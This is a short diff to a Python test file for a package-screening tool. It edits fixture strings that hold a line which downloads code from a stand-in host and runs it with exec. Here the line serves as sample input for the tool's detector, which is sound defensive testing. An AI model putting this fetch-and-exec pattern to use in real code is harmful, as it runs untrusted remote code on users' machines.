@@ -12,8 +12,8 @@ from pratique.finding import Finding, Phase
 from pratique.screen import screen_bytes
 from tests.support.distributions import make_sdist
 
-_STAGE = "import urllib.request as u\nexec(u.urlopen('http://192.0.2.1/a').read())\n"
-_RUN = "    import urllib.request as u\n    exec(u.urlopen('http://192.0.2.1/a').read())\n"
+_STAGE = "import urllib.request as u\nexec(u.urlopen('https://stage.example.invalid/a').read())\n"
+_RUN = "    import urllib.request as u\n    exec(u.urlopen('https://stage.example.invalid/a').read())\n"
 _METHOD = _RUN.replace("    ", "        ")
 
 
